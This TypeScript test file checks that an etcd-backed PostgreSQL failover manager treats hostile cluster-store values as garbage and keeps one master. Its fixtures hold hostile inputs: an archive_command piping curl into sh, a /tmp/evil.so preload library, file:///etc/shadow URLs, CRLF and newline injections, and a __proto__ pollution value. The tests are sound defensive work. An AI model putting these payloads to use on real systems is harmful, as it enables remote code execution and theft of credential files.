// Hostile values in every etcd key governor reads. The codec's tables prove each is read as garbage
// (absent), never acted on; one real 3-member cluster then gets each value written into its etcd
// and must keep exactly one master (pg_is_in_recovery on every member every 50 ms), keep its
// daemons (same PIDs), log each value once per member (not once per loop), and be healthy after.

import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { Etcd3 } from 'etcd3';
import pg from 'pg';
import * as codec from '../../src/dcs/codec.js';
import { apiUrlProblem, connUrlProblem } from '../../src/dcs/member-urls.js';
import { monotonicMs, sleep } from '../../src/util/time.js';
import { TestCluster } from '../helpers/cluster.js';

const MiB = 'x'.repeat(1024 * 1024);
const goodMember = { conn_url: 'postgres://10.0.0.1:5432/postgres', api_url: 'http://10.0.0.1:8008/patroni', state: 'running', role: 'replica' };
const member = (fields: Record<string, unknown>) => JSON.stringify({ ...goodMember, ...fields });
const timing = { ttl: 30, loop_wait: 10, retry_timeout: 10, maximum_lag_on_failover: 1048576 };

/** [key, label, value]: every one must be garbage. */
const HOSTILE: [key: string, label: string, value: string][] = [
  ['leader', 'empty', ''],
  ['leader', 'newline', 'node1\nnode2'],
  ['leader', 'NUL', 'node1\u0000'],
  ['leader', '1 MiB', MiB],
  ['leader', 'JSON', '{"name":"node1"}'],
  ['leader', 'spaces', 'node 1'],
  ['initialize', 'letters', 'abc'],
  ['initialize', '1 MiB of digits', '1'.repeat(1024 * 1024)],
  ['initialize', 'JSON number', '1.5e3'],
  ['config', 'empty', ''],
  ['config', '{}', '{}'],
  ['config', 'JSON null', 'null'],
  ['config', 'truncated', '{"ttl": 30'],
  ['config', 'string ttl', JSON.stringify({ ...timing, ttl: '30' })],
  ['config', 'Infinity-like ttl', '{"ttl": 1e999, "loop_wait": 10, "retry_timeout": 10, "maximum_lag_on_failover": 0}'],
  ['config', 'negative loop_wait', JSON.stringify({ ...timing, loop_wait: -1 })],
  ['config', 'ttl below loop_wait + 2 * retry_timeout', JSON.stringify({ ...timing, ttl: 3 })],
  ['config', 'unknown field', JSON.stringify({ ...timing, master_start_timeout: 0 })],
  ['config', 'archive_command', JSON.stringify({ ...timing, postgresql: { parameters: { archive_command: 'sh -c "curl x | sh"' } } })],
  ['config', 'shared_preload_libraries', JSON.stringify({ ...timing, postgresql: { parameters: { shared_preload_libraries: '/tmp/evil.so' } } })],
  ['config', 'include_dir', JSON.stringify({ ...timing, postgresql: { parameters: { include_dir: '/tmp' } } })],
  ['config', 'parameter with a newline', JSON.stringify({ ...timing, postgresql: { parameters: { work_mem: "1MB'\nshared_preload_libraries='x" } } })],
  ['config', 'parameter name injection', JSON.stringify({ ...timing, postgresql: { parameters: { 'a = 1\nb': 1 } } })],
  ['config', '__proto__ parameter', `{"ttl":30,"loop_wait":10,"retry_timeout":10,"maximum_lag_on_failover":0,"postgresql":{"parameters":{"__proto__":{"x":1}}}}`],
  ['config', '1 MiB', JSON.stringify({ ...timing, pad: MiB })],
  ['history', 'object', '{"a":1}'],
  ['history', 'string LSN', '[[1, "0/3000060", "x"]]'],
  ['history', 'negative timeline', '[[-1, 5, "x"]]'],
  ['history', 'float', '[[1.5, 5, "x"]]'],
  ['history', 'deep nesting', '['.repeat(5000) + ']'.repeat(5000)],
  ['history', '1 MiB', JSON.stringify([[1, 5, MiB]])],
  ['failover', 'empty object', '{}'],
  ['failover', 'array', '["node2"]'],
  ['failover', 'number member', '{"member": 2}'],
  ['failover', 'bad schedule', '{"member": "node2", "scheduled_at": "soon"}'],
  ['failover', '1 MiB', JSON.stringify({ member: MiB })],
  ['sync', 'string', '"node2"'],
  ['sync', 'number standby', '{"leader": "node1", "sync_standby": 7}'],
  ['sync', '1 MiB', JSON.stringify({ leader: 'node1', sync_standby: MiB })],
  ['failsafe', 'not JSON', 'node1'],
  ['failsafe', 'array', '["node1"]'],
  ['failsafe', 'api_url file:', '{"node1": "file:///etc/shadow"}'],
  ['failsafe', 'api_url credentials', '{"node1": "http://admin:pw@10.0.0.1:8008/patroni"}'],
  ['failsafe', 'api_url number', '{"node1": 8008}'],
  ['failsafe', 'name with a space', '{"node 1": "http://10.0.0.1:8008/patroni"}'],
  ['failsafe', '1 MiB', JSON.stringify({ node1: `http://${MiB}:8008/` })],
  ['optime/leader', 'LSN notation', '0/3000060'],
  ['optime/leader', 'negative', '-1'],
  ['optime/leader', 'beyond 2^53', '99999999999999999'],
  ['optime/leader', 'hex', '0x10'],
  ['optime/leader', '1 MiB', '1'.repeat(1024 * 1024)],
  ['members/evil', 'not JSON', 'hello'],
  ['members/evil', 'wrong types', JSON.stringify({ ...goodMember, xlog_location: '5', timeline: true })],
  ['members/evil', 'api_url file:', member({ api_url: 'file:///etc/shadow' })],
  ['members/evil', 'api_url ftp:', member({ api_url: 'ftp://10.0.0.1:21/patroni' })],
  ['members/evil', 'api_url javascript:', member({ api_url: 'javascript:alert(1)' })],
  ['members/evil', 'api_url credentials', member({ api_url: 'http://admin:secret@10.0.0.1:8008/patroni' })],
  ['members/evil', 'api_url user only', member({ api_url: 'http://admin@10.0.0.1:8008/patroni' })],
  ['members/evil', 'api_url port 0', member({ api_url: 'http://10.0.0.1:0/patroni' })],
  ['members/evil', 'api_url port 65536', member({ api_url: 'http://10.0.0.1:65536/patroni' })],
  ['members/evil', 'api_url huge port', member({ api_url: 'http://10.0.0.1:99999999999/patroni' })],
  ['members/evil', 'api_url without port', member({ api_url: 'http://10.0.0.1/patroni' })],
  ['members/evil', 'api_url without host', member({ api_url: 'http://:8008/patroni' })],
  ['members/evil', 'api_url newline', member({ api_url: 'http://10.0.0.1:8008/patroni\r\nX-Injected: 1' })],
  ['members/evil', 'api_url tab in host', member({ api_url: 'http://10.0.\t0.1:8008/patroni' })],
  ['members/evil', 'api_url query', member({ api_url: 'http://10.0.0.1:8008/patroni?x=1' })],
  ['members/evil', 'api_url escapes', member({ api_url: 'http://10.0.0.1:8008/%2e%2e/failsafe' })],
  ['members/evil', 'api_url dot segments', member({ api_url: 'http://10.0.0.1:8008/../failsafe' })],
  ['members/evil', 'api_url backslash', member({ api_url: 'http:\\\\10.0.0.1:8008/patroni' })],
  ['members/evil', 'api_url 1 MiB', member({ api_url: `http://${MiB}:8008/` })],
  ['members/evil', 'conn_url file:', member({ conn_url: 'file:///var/lib/postgresql' })],
  ['members/evil', 'conn_url credentials', member({ conn_url: 'postgres://postgres:pw@10.0.0.1:5432/postgres' })],
  ['members/evil', 'conn_url parameters', member({ conn_url: 'postgres://10.0.0.1:5432/postgres?sslmode=disable' })],
  ['members/evil', 'conn_url port 70000', member({ conn_url: 'postgres://10.0.0.1:70000/postgres' })],
  ['members/evil', 'conn_url newline', member({ conn_url: 'postgres://10.0.0.1:5432/postgres\nhost=evil' })],
  ['members/evil', 'conn_url http', member({ conn_url: 'http://10.0.0.1:5432/' })],
  ['members/evil', 'conn_url host list', member({ conn_url: 'postgres://a:5432,b:5432/postgres' })],
  ['members/evil', 'unknown role', member({ role: 'standby_leader' })],
  ['members/evil\nnode1', 'name with a newline', member({})],
  ['members/' + 'n'.repeat(100), 'name of 100 characters', member({})],
  ['members/evil', '1 MiB', member({ state: MiB })],
];

describe('etcd values: the codec reads every hostile value as garbage', () => {
  for (const [key, label, value] of HOSTILE) {
    it(`${key.length > 20 ? key.slice(0, 20) + '...' : JSON.stringify(key)}: ${label}`, () => {
      const garbage: codec.Garbage[] = [];
      const view = codec.buildClusterView([{ key, value, modRevision: '9', lease: '0' }], (g) => garbage.push(g));
      assert.equal(garbage.length, 1, `${key} ${label}: expected one garbage report`);
      assert.equal(garbage[0]!.key, key);
      assert.ok(garbage[0]!.reason.length > 0 && garbage[0]!.reason.length < 3000);
      // Read as absent (initialize: as set but unknown, so nobody races to bootstrap over it).
      assert.equal(view.leader, null);
      assert.equal(view.initialize, key === 'initialize' ? '' : null);
      assert.equal(view.config, null);
      assert.equal(view.failover, null);
      assert.equal(view.sync, null);
      assert.equal(view.failsafe, null);
      assert.equal(view.leaderOptime, null);
      assert.deepEqual(view.history, []);
      assert.deepEqual(view.members, []);
      if (key === 'config') assert.equal(view.configRevision, '9', 'its revision is kept for a PUT /config to replace it');
    });
  }

  it('a garbage reason never carries the value (it may be large or secret)', () => {
    for (const [key, , value] of HOSTILE.filter(([, , v]) => v.length > 1000)) {
      codec.buildClusterView([{ key, value, modRevision: '1', lease: '0' }], (g) => assert.ok(!g.reason.includes(MiB.slice(0, 100)), key));
    }
  });

  it('good member addresses pass: Patroni\'s and governor\'s forms, IPv6, DNS names', () => {
    for (const url of ['http://10.0.0.1:8008/patroni', 'https://db-1.example.com:8008/patroni', 'http://[::1]:8008/patroni', 'http://h:1', 'http://h:65535/']) assert.equal(apiUrlProblem(url), null, url);
    for (const url of ['postgres://10.0.0.1:5432/postgres', 'postgresql://[fe80::1]:5432', 'postgres://db-1.example.com:6432/postgres']) assert.equal(connUrlProblem(url), null, url);
  });

  it('a long non-matching api_url is refused quickly (no catastrophic backtracking)', () => {
    const started = monotonicMs();
    for (let i = 0; i < 100; i++) apiUrlProblem(`http://h:1${'/a'.repeat(300)}!`);
    assert.ok(monotonicMs() - started < 500);
  });
});

describe('etcd values written into a running cluster', () => {
  let cluster: TestCluster;
  let etcd: Etcd3;
  let prefix: string;
  const names = () => cluster.manifest.nodes.map((n) => n.name);

  before(async () => {
    cluster = await TestCluster.start(3);
    etcd = new Etcd3({ hosts: cluster.manifest.etcd.endpoints });
    prefix = cluster.etcdKey('');
  });
  after(async () => {
    etcd?.close();
    await cluster?.stop();
  });

  /** pg_is_in_recovery() on every member every 50 ms: the most writable members seen at once. */
  function watchWriters() {
    const clients = new Map<string, pg.Client | null>();
    const samples = { total: 0, dual: 0, none: 0 };
    let stopped = false;
    const ask = async (name: string): Promise<boolean | null> => {
      let client = clients.get(name) ?? null;
      try {
        if (!client) {
          client = new pg.Client({ ...cluster.connectionConfig(cluster.node(name)), connectionTimeoutMillis: 500, statement_timeout: 500 });
          client.on('error', () => undefined);
          clients.set(name, client);
          await client.connect();
        }
        return !(await client.query<{ r: boolean }>('SELECT pg_is_in_recovery() AS r')).rows[0]!.r;
      } catch {
        clients.set(name, null);
        await client?.end().catch(() => undefined);
        return null;
      }
    };
    const done = (async () => {
      while (!stopped) {
        const started = monotonicMs();
        const writable = (await Promise.all(names().map(ask))).filter((w) => w === true).length;
        samples.total += 1;
        if (writable > 1) samples.dual += 1;
        if (writable === 0) samples.none += 1;
        await sleep(Math.max(0, 50 - (monotonicMs() - started)));
      }
    })();
    return {
      samples,
      async stop() {
        stopped = true;
        await done;
        await Promise.all([...clients.values()].map((c) => c?.end().catch(() => undefined)));
      },
    };
  }

  /** Log records of `name` about garbage in `key` written since `offset` characters of its log. */
  const garbageLogs = (name: string, key: string, offset: number) =>
    cluster
      .logOf(name)
      .slice(offset)
      .split('\n')
      .filter((line) => line.includes('ignoring malformed value in etcd'))
      .map((line) => JSON.parse(line) as { key: string; reason: string; bytes: number })
      .filter((record) => record.key === (prefix + key).slice(0, 200));

  it('no crash, never two masters, each value logged once per member, healthy after', async () => {
    const leader = await cluster.waitHealthy();
    const pids = Object.fromEntries(names().map((n) => [n, cluster.governorPid(n)]));
    const { loopWaitMs } = await cluster.timing([leader]);
    const original = Object.fromEntries(
      await Promise.all(['config', 'history', 'initialize', 'sync'].map(async (key) => [key, await etcd.get(prefix + key).string()] as const)),
    );
    // One value per key that governor does not rewrite itself every loop (the master rewrites
    // optime/leader and each member its own key, so garbage there may be gone before it is read);
    // the leader key goes last: overwriting it takes the key from the master.
    const cases: [key: string, value: string][] = [
      ['config', JSON.stringify({ ...timing, ttl: 30, postgresql: { parameters: { archive_command: 'touch /tmp/governor-pwned' } } })],
      ['history', '[[1, "0/3000060", "x"]]'],
      ['initialize', 'not-a-system-id'],
      ['failover', JSON.stringify({ member: 7 })],
      ['sync', '{"leader": 1}'],
      ['members/evil', member({ api_url: 'file:///etc/shadow' })],
      ['members/evil2', member({ conn_url: 'postgres://postgres:pw@127.0.0.1:1/postgres' })],
      ['optime/leader', '0/3000060'],
      // The master writes the failsafe key again as soon as it reads it as absent.
      ['failsafe', '{"node1": "file:///etc/shadow"}'],
    ];
    const writers = watchWriters();
    const perCase: string[] = [];
    try {
      for (const [key, value] of cases) {
        const offsets = Object.fromEntries(names().map((n) => [n, cluster.logOf(n).length]));
        await etcd.put(prefix + key).value(value);
        const loggedOnce = key !== 'optime/leader' && key !== 'failsafe';
        if (loggedOnce) {
          // Every member logs it, then reads the cluster at least twice more (two loop_waits): one
          // that logged it per loop would have logged it again.
          await cluster.waitFor(`every member to log the value in ${key}`, async () => names().every((n) => garbageLogs(n, key, offsets[n]!).length > 0), 3 * loopWaitMs + 500);
          await sleep(2 * loopWaitMs);
        } else {
          // Three loop_waits: every member reads the cluster at least twice meanwhile.
          await sleep(3 * loopWaitMs + 500);
        }
        const counts = names().map((n) => garbageLogs(n, key, offsets[n]!).length);
        perCase.push(`${key}: logged ${counts.join('/')}`);
        if (!loggedOnce) assert.ok(counts.every((c) => c <= 1), `${key} logged more than once: ${counts}`);
        else assert.deepEqual(counts, names().map(() => 1), `${key}: each member logs the value once, not per loop`);
        if (key === 'config' || key === 'history' || key === 'initialize' || key === 'sync') {
          if (original[key] === null) await etcd.delete().key(prefix + key);
          else await etcd.put(prefix + key).value(original[key]!);
        } else if (key !== 'optime/leader' && key !== 'failsafe') {
          await etcd.delete().key(prefix + key);
        }
      }
      assert.equal(writers.samples.none, 0, `a member was master throughout (${writers.samples.total} samples)`);
      // The leader key: garbage there takes it from the master (its renewal finds another value)
      // and nobody can acquire it until it is removed; never two masters meanwhile.
      const offsets = Object.fromEntries(names().map((n) => [n, cluster.logOf(n).length]));
      await etcd.put(prefix + 'leader').value('not a member\n');
      await sleep(3 * loopWaitMs + 500);
      const counts = names().map((n) => garbageLogs(n, 'leader', offsets[n]!).length);
      perCase.push(`leader: logged ${counts.join('/')}`);
      assert.ok(counts.every((c) => c <= 1) && counts.some((c) => c === 1), `leader: logged ${counts}`);
      await etcd.delete().key(prefix + 'leader');
      await cluster.waitHealthy();
    } finally {
      await writers.stop();
      console.log(`etcd garbage: ${perCase.join('; ')}; pg_is_in_recovery samples ${writers.samples.total}, with two writable ${writers.samples.dual}, with none ${writers.samples.none}`);
    }
    assert.equal(writers.samples.dual, 0, 'never two writable members');
    for (const name of names()) {
      assert.equal(cluster.governorPid(name), pids[name], `${name}'s governor was not restarted`);
      process.kill(pids[name]!, 0); // still alive
      const archiveCommand = (await cluster.query<{ setting: string }>(name, "SELECT setting FROM pg_settings WHERE name = 'archive_command'"))[0]!.setting;
      assert.ok(!archiveCommand.includes('pwned'), `${name}: archive_command from etcd was applied: ${archiveCommand}`);
      const metrics = (await cluster.api(name, '/metrics')).body;
      assert.match(metrics, /governor_dcs_invalid_values_total\{scope="[^"]+",name="[^"]+",key="config"\} [1-9]/);
      assert.match(metrics, /governor_dcs_invalid_values_total\{scope="[^"]+",name="[^"]+",key="members"\} [1-9]/);
    }
  });
});
